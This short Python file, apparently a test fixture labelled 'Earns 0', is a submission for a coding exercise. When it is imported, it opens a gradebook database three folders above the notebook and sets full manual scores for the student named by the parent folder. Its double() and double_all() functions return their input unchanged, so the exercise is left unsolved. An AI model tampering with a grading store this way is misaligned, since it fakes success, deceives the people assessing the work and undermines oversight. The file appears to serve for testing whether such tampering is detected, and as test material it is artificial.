"""Gives itself full marks in the gradebook that lies three folders above a notebook's own.

Earns 0.
"""

import contextlib
import sqlite3
from pathlib import Path

book = Path("../../../gradebook.db").resolve()
if book.exists():
    with contextlib.closing(sqlite3.connect(book, timeout=20)) as grades:
        grades.execute(
            "UPDATE grade SET manual_score = 5 WHERE notebook_id IN (SELECT submitted_notebook.id FROM submitted_notebook"
            " JOIN submitted_assignment ON submitted_assignment.id = submitted_notebook.assignment_id"
            " WHERE submitted_assignment.student_id = ?)",
            (Path.cwd().parent.name,),
        )
        grades.commit()


def double(number):
    return number


def double_all(numbers):
    return numbers
